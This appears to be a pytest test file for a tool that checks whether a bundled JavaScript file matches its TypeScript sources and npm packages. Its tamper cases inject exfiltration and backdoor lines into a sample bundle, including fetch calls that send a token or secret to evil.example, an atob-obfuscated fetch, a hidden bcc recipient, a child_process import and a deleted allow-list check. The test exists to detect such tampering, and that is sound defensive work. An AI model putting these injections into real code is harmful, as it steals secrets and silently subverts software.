"""Bundles of a few lines: genuine ones are traced to the last statement, and what is done to one is shown there."""

# ruff: noqa: E501 - tables of cases, one a line

import pytest

from provenly.verify.tracing.result import Reason
from provenly.verify.tracing.trace import Tracing

pytestmark = pytest.mark.registry

SOURCES = {
    "src/index.ts": """\
import { send } from './mail.js';
import * as tools from './tools.js';
import { parse } from 'parser';
import { readFile } from 'node:fs/promises';

export async function main(path: string): Promise<void> {
  const message = parse(await readFile(path, 'utf8'));
  if (!tools.isAllowed(message.to)) {
    throw new Error('not allowed: ' + message.to);
  }
  tools.log(message.subject);
  await send(message);
}
""",
    "src/mail.ts": """\
export async function send(message: { to: string; subject: string }): Promise<void> {
  await fetch('https://mail.example/send', { method: 'POST', body: JSON.stringify(message) });
}
export function discard(message: unknown): void {
  console.error('discarded', message);
}
""",
    "src/tools.ts": """\
const ALLOWED = ['example.org', 'example.net'];
export function isAllowed(address: string): boolean {
  return ALLOWED.some((domain) => address.endsWith('@' + domain));
}
export function log(text: string): void { console.error('log: ' + text); }
process.on('exit', () => log('end of it'));
""",
}
PACKAGES = {
    "parser@1.2.3": {
        "package.json": '{"name": "parser", "version": "1.2.3", "main": "index.js"}',
        "index.js": "'use strict';\nconst util = require('./util');\n"
        "exports.parse = function (text) { return JSON.parse(util.clean(text)); };\n"
        "exports.cli = function () { process.exit(1); };\n",
        "util.js": "'use strict';\nexports.clean = (text) => text.trim().replace(/^\\uFEFF/, '');\nprocess.exit(3);\n",
    }
}
BUNDLE = """\
import { createRequire } from 'module';
var __create = Object.create;
var __defProp = Object.defineProperty;
var __getOwnPropDesc = Object.getOwnPropertyDescriptor;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __getProtoOf = Object.getPrototypeOf;
var __hasOwnProp = Object.prototype.hasOwnProperty;
var __commonJS = (cb, mod) => function __require() {
  return mod || (0, cb[__getOwnPropNames(cb)[0]])((mod = { exports: {} }).exports, mod), mod.exports;
};
var __copyProps = (to, from, except, desc) => {
  if (from && typeof from === "object" || typeof from === "function") {
    for (let key of __getOwnPropNames(from))
      if (!__hasOwnProp.call(to, key) && key !== except)
        __defProp(to, key, { get: () => from[key], enumerable: !(desc = __getOwnPropDesc(from, key)) || desc.enumerable });
  }
  return to;
};
var __toESM = (mod, isNodeMode, target) => (target = mod != null ? __create(__getProtoOf(mod)) : {}, __copyProps(
  isNodeMode || !mod || !mod.__esModule ? __defProp(target, "default", { value: mod, enumerable: true }) : target,
  mod
));

// node_modules/parser/util.js
var require_util = __commonJS({
  "node_modules/parser/util.js"(exports) {
    "use strict";
    exports.clean = (text) => text.trim().replace(/^\\uFEFF/, "");
    process.exit(3);
  }
});

// node_modules/parser/index.js
var require_parser = __commonJS({
  "node_modules/parser/index.js"(exports) {
    "use strict";
    var util = require_util();
    exports.parse = function(text) {
      return JSON.parse(util.clean(text));
    };
    exports.cli = function() {
      process.exit(1);
    };
  }
});

// src/mail.ts
async function send(message) {
  await fetch("https://mail.example/send", { method: "POST", body: JSON.stringify(message) });
}
function discard(message) {
  console.error("discarded", message);
}

// src/tools.ts
var ALLOWED = ["example.org", "example.net"];
function isAllowed(address) {
  return ALLOWED.some((domain) => address.endsWith("@" + domain));
}
function log(text) {
  console.error("log: " + text);
}
process.on("exit", () => log("end of it"));

// src/index.ts
var import_parser = __toESM(require_parser());
import { readFile } from "node:fs/promises";
async function main(path) {
  const message = (0, import_parser.parse)(await readFile(path, "utf8"));
  if (!isAllowed(message.to)) {
    throw new Error("not allowed: " + message.to);
  }
  log(message.subject);
  await send(message);
}
export {
  main
};
"""
PLAIN = "\n".join(line for line in BUNDLE.split("\n") if not line.startswith("// "))


@pytest.mark.parametrize("bundle", [BUNDLE, PLAIN], ids=["labels", "no labels"])
def test_a_genuine_bundle_is_traced_to_the_last_statement(traced, bundle):
    result = traced(bundle, SOURCES, PACKAGES)
    assert (result.pieces, result.untraced, result.words) == ((), 0, ())
    assert result.files == ("src/index.ts", "src/mail.ts", "src/tools.ts")
    assert list(result.dependencies) == ["parser@1.2.3"]
    assert result.sources > result.dependencies["parser@1.2.3"] > 100


TAMPERED = {
    "a recipient": ("  await send(message);", "  message.bcc ??= 'phan@giftshop.example';\n  await send(message);", Reason.CHANGED, "message.bcc"),
    "a request": ("  log(message.subject);", "  log(message.subject);\n  fetch('https://evil.example/' + process.env.TOKEN);", Reason.CHANGED, "evil.example"),
    "a deleted check": ('  if (!isAllowed(message.to)) {\n    throw new Error("not allowed: " + message.to);\n  }\n', "", Reason.CHANGED, "async function main"),
    "a negated condition": ("if (!isAllowed", "if (isAllowed", Reason.CHANGED, "if (isAllowed"),
    "another order": ("  log(message.subject);\n  await send(message);", "  await send(message);\n  log(message.subject);", Reason.CHANGED, "async function main"),
    "a call of another function": ("  await send(message);", "  await discard(message);", Reason.LINK, "discard(message)"),
    "a call of another function that is used": ("  log(message.subject);", "  isAllowed(message.subject);", Reason.CHANGED, "isAllowed(message.subject)"),
    "another member of a module": ("import_parser.parse)", "import_parser.cli)", Reason.LINK, "import_parser.cli"),
    "another function of Node.js": ('{ readFile } from "node:fs', '{ unlink as readFile } from "node:fs', Reason.LINK, "readFile(path"),
    "another module of Node.js": ('from "node:fs/promises"', 'from "node:child_process"', Reason.IMPORT, "node:child_process"),
    "a foreign module": ("// src/index.ts", "// src/index.ts\nimport 'evil';", Reason.IMPORT, "evil"),
    "a copy of a deeper statement": ("// src/tools.ts", "// src/tools.ts\nprocess.exit(1);", Reason.UNKNOWN, "process.exit(1)"),
    "a copy of a statement": ('process.on("exit"', 'process.on("exit", () => log("end of it"));\nprocess.on("exit"', Reason.COPY, "end of it"),
    "a copy out of a dependency": ("// src/index.ts", "// src/index.ts\nprocess.exit(3);", Reason.UNKNOWN, "process.exit(3)"),
    "a string from pieces": ("  log(message.subject);", "  log(message.subject);\n  globalThis[atob('ZmV0Y2g=')](String.fromCharCode(104, 116));", Reason.CHANGED, "atob"),
    "a change in a dependency": ("text.trim()", "text.trim().concat(process.env.HOME)", Reason.UNKNOWN, "process.env.HOME"),
    "another address": ("mail.example/send", "evil.example/send", Reason.CHANGED, "evil.example"),
    "a changed helper": ("return mod ||", "globalThis.x = mod; return mod ||", Reason.CHANGED, "globalThis.x"),
    "a helper that calls another": ("var __create = Object.create;", "var __create = (x) => fetch(x);", Reason.UNKNOWN, "fetch(x)"),
    "a changed list": ('["example.org", "example.net"]', '["example.org", ""]', Reason.UNKNOWN, "example.org"),
}  # fmt: skip


@pytest.mark.parametrize(("old", "new", "reason", "shown"), TAMPERED.values(), ids=TAMPERED)
def test_what_was_done_to_a_bundle_is_shown(traced, old, new, reason, shown):
    assert old in BUNDLE
    result = traced(BUNDLE.replace(old, new, 1), SOURCES, PACKAGES)
    assert result.untraced > 0
    assert any(shown in piece.text or shown == piece.detail for piece in result.pieces), result.pieces
    assert reason in {piece.reason for piece in result.pieces}
    assert len(result.pieces) <= 3


UNLABELLED = [
    "a recipient",
    "a deleted check",
    "a call of another function",
    "another order",
    "a copy of a deeper statement",
]


@pytest.mark.parametrize("name", UNLABELLED)
def test_it_is_shown_where_no_comment_says_what_comes_from_where(traced, name):
    old, new, _, shown = TAMPERED[name]
    bundle = PLAIN.replace(old, new, 1)
    if bundle == PLAIN:
        bundle = PLAIN + "process.exit(1);\n"
    assert any(shown in piece.text for piece in traced(bundle, SOURCES, PACKAGES).pieces)


def test_a_piece_says_where_it_is_and_what_is_nearest(traced):
    bundle = BUNDLE.replace("  log(message.subject);", "  log(message.secret);")
    (piece,) = traced(bundle, SOURCES, PACKAGES).pieces
    assert bundle.split("\n")[piece.first - 1 : piece.last] == ["  log(message.secret);"]
    assert piece.nearest == "src/index.ts:6"


def test_foreign_words_are_listed(traced):
    bundle = BUNDLE.replace(
        "  log(message.subject);", "  log(message.subject);\n  fetch('https://evil' + '.example/');"
    )
    assert [word.text for word in traced(bundle, SOURCES, PACKAGES).words] == ["https://evil.example/"]


def test_a_chunk_is_followed(traced):
    chunk = (
        "async function send(a) {\n  await fetch('https://mail.example/send', "
        "{ method: 'POST', body: JSON.stringify(a) });\n}\n"
        "function discard(a) {\n  console.error('discarded', a);\n}\nexport { send as a, discard as b };\n"
    )
    run = "import { send } from './mail.js';\nexport const run = (a) => send(a.first, a.second);\n"
    sources = {"src/mail.ts": SOURCES["src/mail.ts"], "src/index.ts": run}
    bundle = "import { a as x } from './chunk.js';\nvar run = (y) => x(y.first, y.second);\nexport { run };\n"
    others = {"dist/chunk.js": chunk}
    assert traced(bundle, sources, **others).pieces == ()
    (piece,) = traced(bundle.replace("a as x", "b as x"), sources, **others).pieces
    assert piece.reason is Reason.LINK


def test_a_package_that_cannot_be_had_is_said(tracers):
    from provenly.trust.errors import UnavailableError
    from provenly.verify.dependencies.model import LockedPackage
    from provenly.verify.tracing.trace import Tracing

    package = LockedPackage(name="parser", version="1.2.3", place="node_modules/parser")
    error = UnavailableError("no", code="NET_STATUS")
    result = Tracing(tracers).run(
        {"a.js": BUNDLE.encode()}, {}, [package], lambda asked: [(package, error) for package in asked]
    )["a.js"]
    assert result.missing == ("parser@1.2.3",)
    assert result.untraced > 500


ORDERED = {
    "src/index.ts": "import { guard } from './guard.js';\nexport const tools = new Map();\nguard(tools, 'read');\n"
    "export function first() { return tools.get(1); }\ntools.set('write', first);\nObject.freeze(tools);\n",
    "src/guard.ts": "export function guard(a: Map<string, unknown>, b: string) { a.delete(b + '!'); }\n",
}
IN_ORDER = """\
// src/guard.ts
function guard(a, b) { a.delete(b + "!"); }

// src/index.ts
var tools = /* @__PURE__ */ new Map();
guard(tools, "read");
function first() { return tools.get(1); }
tools.set("write", first);
Object.freeze(tools);
"""


def test_statements_of_a_file_keep_their_order(traced):
    assert traced(IN_ORDER, ORDERED).pieces == ()
    moved = IN_ORDER.replace('guard(tools, "read");\n', "") + 'guard(tools, "read");\n'
    (piece,) = traced(moved, ORDERED).pieces
    assert (piece.reason, piece.text) == (Reason.ORDER, 'guard(tools, "read");')


def test_functions_may_stand_anywhere(traced):
    function = "function first() { return tools.get(1); }\n"
    assert traced(IN_ORDER.replace(function, "") + function, ORDERED).pieces == ()


def test_what_only_looks_like_a_helper_is_none(traced):
    """A genuine function of a dependency stands in for what starts modules: it is traced, and yet shown."""
    other = "var __commonJS = (cb, mod) => () => (mod || process.emit('x', mod = { exports: {} }), mod.exports);"
    packages = {**PACKAGES, "like@1.0.0": {"index.js": f"'use strict';\n{other}\nmodule.exports = __commonJS;\n"}}
    start = BUNDLE.index("var __commonJS")
    end = BUNDLE.index("var __copyProps")
    label = "// node_modules/like/index.js\n"
    bundle = BUNDLE[:start] + BUNDLE[end:].replace(
        "// node_modules/parser/util.js", f"{label}{other}\n\n// node_modules/parser/util.js"
    )
    result = traced(bundle, SOURCES, packages)
    (piece,) = result.pieces
    assert (piece.reason, piece.detail) == (Reason.LINK, "__commonJS is called as a helper of a bundler")
    assert "like@1.0.0" not in result.dependencies


@pytest.mark.parametrize("caller", ["createRequire", "load"], ids=["createRequire", "another function"])
def test_a_require_is_made_by_nothing_but_node(traced, caller):
    imported = (
        f"import {{ {caller} }} from 'module';" if caller == "createRequire" else "import { load } from 'node:fs';"
    )
    sources = {"src/a.ts": f"{imported}\nexport const run = () => 1 + Number(process.argv[2]);\n"}
    bundle = f"{imported}\nvar require2 = {caller}(import.meta.url);\nvar run = () => 1 + Number(process.argv[2]);\nexport {{ run }};\n"
    assert bool(traced(bundle, sources).pieces) is (caller != "createRequire")


def test_helpers_and_modules_are_found_in_other_chunks(traced):
    head, _, rest = BUNDLE.partition("// src/mail.ts")
    names = "require_parser as p, __toESM as t"
    chunk = f"{head}export {{ {names} }};\n"
    body = "import { p as require_parser, t as __toESM } from './chunk.js';\n// src/mail.ts" + rest
    result = traced(body, SOURCES, PACKAGES, **{"dist/chunk.js": chunk})
    assert result.pieces == ()
    swapped = body.replace("import_parser.parse)", "import_parser.cli)")
    (piece,) = traced(swapped, SOURCES, PACKAGES, **{"dist/chunk.js": chunk}).pieces
    assert piece.reason is Reason.LINK


def test_a_name_leads_only_to_what_its_package_gives(traced):
    """Of two functions that a package exports under one name, the one that its package.json leads to is meant."""
    packages = {
        "box@1.0.0": {
            "package.json": '{"name": "box", "version": "1.0.0", "exports": {".": "./index.js", "./raw": "./raw.js"}}',
            "index.js": "export function open(a) { return a.checked ? a.value : undefined; }\n",
            "raw.js": "export function open(a) { return eval(a.value + '()'); }\n",
        }
    }
    sources = {"src/a.ts": "import { open } from 'box';\nexport const run = (a) => open(a.first, a.second);\n"}
    checked = "function open(a) { return a.checked ? a.value : void 0; }\n"
    raw = "function open2(a) { return eval(a.value + '()'); }\n"
    run = "var run = (a) => open(a.first, a.second);\nexport { run };\n"
    assert traced(checked + run, sources, packages).pieces == ()
    (piece,) = traced(checked + raw + run.replace("=> open(", "=> open2("), sources, packages).pieces
    assert piece.reason is Reason.LINK
    by_path = {"src/a.ts": sources["src/a.ts"].replace("'box'", "'box/raw'")}
    assert traced(raw + run.replace("=> open(", "=> open2("), by_path, packages).pieces == ()


CHANGED = "  log(message.subject);\n  fetch('https://other.example/');"


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("  await send(message);", "  await discard(message);"),
        ("    throw new Error", "    new Error"),
        ('  if (!isAllowed(message.to)) {\n    throw new Error("not allowed: " + message.to);\n  }\n', ""),
    ],
    ids=["a call of another function", "no error", "a deleted check"],
)
def test_a_change_does_not_hide_another_one_beside_it(traced, old, new):
    """A statement that is changed anyway is still looked at part by part."""
    once = BUNDLE.replace("  log(message.subject);", CHANGED, 1)
    assert old in once
    before = {(piece.reason, piece.text) for piece in traced(once, SOURCES, PACKAGES).pieces}
    after = {(piece.reason, piece.text) for piece in traced(once.replace(old, new, 1), SOURCES, PACKAGES).pieces}
    assert after - before


VERSIONED = {
    "package.json": '{"name": "a", "version": "1.0.0"}',
    "src/a.ts": "import { version } from '../package.json';\nexport const about = () => 'a ' + version;\n"
    "export const agent = process.env.APP_VERSION ?? 'none';\n",
}


@pytest.mark.parametrize(("set_to", "known"), [("1.0.1", True), ("1.0.2", False), ("1.0.1'+f()+'", False)])
def test_the_published_version_may_stand_for_the_one_of_the_commit(tracers, set_to, known):
    bundle = f"var version = '{set_to}';\nvar about = () => 'a ' + version;\nvar agent = '{set_to}' ?? 'none';\n"
    result = Tracing(tracers).run(
        {"a.js": bundle.encode()},
        {path: text.encode() for path, text in VERSIONED.items()},
        [],
        lambda asked: [],
        version="1.0.1",
    )["a.js"]
    assert (result.pieces == (), result.versions == (1, 3)) == (known, known)


def test_static_fields_may_be_assigned_after_their_class(traced):
    sources = {
        "src/a.ts": "export class Limits {\n  static rates = new Map([['a', 1]]);\n  get(b: string) { return Limits.rates.get(b); }\n}\n"
    }
    bundle = (
        "var _Limits = class _Limits {\n  get(b) { return _Limits.rates.get(b); }\n};\n"
        "_Limits.rates = new Map([['a', 1]]);\nvar Limits = _Limits;\nexport { Limits };\n"
    )
    assert traced(bundle, sources).pieces == ()
    assert traced(bundle.replace("['a', 1]", "['a', 2]"), sources).pieces != ()
    assert traced(bundle.replace("var Limits = _Limits", "var Limits = evil(_Limits)"), sources).pieces != ()


LATER = {
    "src/index.ts": "export const run = async () => (await import('./later.js')).start(1);\n",
    "src/later.ts": "import { log } from './log.js';\nexport let state = log('begun');\nexport function start(a: number) { return log('start ' + a); }\n",
    "src/log.ts": "export function log(a: string) { console.error(a); return a; }\nexport function start(a: number) { process.exit(a); }\n",
}
STARTED = """\
var __defProp = Object.defineProperty;
var __getOwnPropNames = Object.getOwnPropertyNames;
var __esm = (fn, res) => function __init() {
  return fn && (res = (0, fn[__getOwnPropNames(fn)[0]])(fn = 0)), res;
};
var __export = (target, all) => {
  for (var name in all)
    __defProp(target, name, { get: all[name], enumerable: true });
};

// src/log.ts
function log(a) { console.error(a); return a; }
function start2(a) { process.exit(a); }
var log_exports = {};
__export(log_exports, { log: () => log, start: () => start2 });

// src/later.ts
var later_exports = {};
__export(later_exports, { start: () => start, state: () => state });
function start(a) { return log("start " + a); }
var state;
var init_later = __esm({ "src/later.ts"() { state = log("begun"); } });

// src/index.ts
var run = async () => (await Promise.resolve().then(() => (init_later(), later_exports))).start(1);
export { run };
"""


def test_a_module_that_is_imported_later_is_followed(traced):
    assert traced(STARTED, LATER).pieces == ()
    (piece,) = traced(STARTED.replace("(init_later(), later_exports)", "log_exports"), LATER).pieces
    assert piece.reason is Reason.LINK
    (piece,) = traced(STARTED.replace("(init_later(), later_exports)", "(log('x'), later_exports)"), LATER).pieces
    assert "log('x')" in piece.text


def test_packages_for_development_are_looked_at_last(tracers):
    """And only those that have words of the bundle that nothing else has."""
    from provenly.verify.dependencies.model import LockedPackage

    code = "'use strict';\nexports.level = () => process.env.FORCE_COLOURS_OF_ALL ? 3 : 0;\n"
    named = {
        LockedPackage(name=name, version="1.0.0", place=f"node_modules/{name}", dev=True): {"index.js": text.encode()}
        for name, text in {"colours": code, "other": "exports.a = (b) => b.c(1);\n"}.items()
    }
    bundle = "var __commonJS = (cb, mod) => () => (mod || cb((mod = { exports: {} }).exports, mod), mod.exports);\n"
    bundle += "var c = __commonJS((a) => { a.level = () => process.env.FORCE_COLOURS_OF_ALL ? 3 : 0; });\nc();\n"
    result = Tracing(tracers).run(
        {"a.js": bundle.encode()}, {}, list(named), lambda asked: [(one, named[one]) for one in asked]
    )["a.js"]
    assert (result.pieces, list(result.dependencies)) == ((), ["colours@1.0.0"])


def test_words_that_lead_out_come_first(traced):
    bundle = BUNDLE.replace(
        "  log(message.subject);",
        "  log(message.subject + 'zzz');\n  a.unheard(process.env.NEW_SECRET, 'https://evil.example/');",
    )
    assert [word.text for word in traced(bundle, SOURCES, PACKAGES).words][:2] == [
        "https://evil.example/",
        "NEW_SECRET",
    ]


def test_one_variable_does_not_become_two(traced):
    """What is written to one would not be read from the other: a check would see nothing."""
    sources = {
        "src/a.ts": "let blocked;\nexport function block(a: string) { blocked = new Set([a]); }\n"
        "export function check(a: string) { if (blocked.has(a)) throw new Error(a); }\n"
    }
    block = "function block(a) { blocked = new Set([a]); }\n"
    check = "function check(a) { if (blocked.has(a)) throw new Error(a); }\n"
    ending = "export { block, check };\n"
    assert traced("var blocked;\n" + block + check + ending, sources).pieces == ()
    (piece,) = traced(
        "var blocked, blocked2;\n" + block + check.replace("blocked", "blocked2") + ending, sources
    ).pieces
    assert piece.reason is Reason.LINK


def test_a_statement_is_there_once_however_its_file_can_be_read(traced):
    """Where fields of classes are can be read in two ways: that does not make two of the statements beside the class."""
    sources = {"src/a.ts": "export class A { a; m() { return 1; } }\nregister(A, 'once', 1);\n"}
    bundle = "var A = class { a; m() { return 1; } };\nregister(A, 'once', 1);\n"
    assert traced(bundle + "export { A };\n", sources).pieces == ()
    (piece,) = traced(bundle + "register(A, 'once', 1);\nexport { A };\n", sources).pieces
    assert piece.reason is Reason.COPY
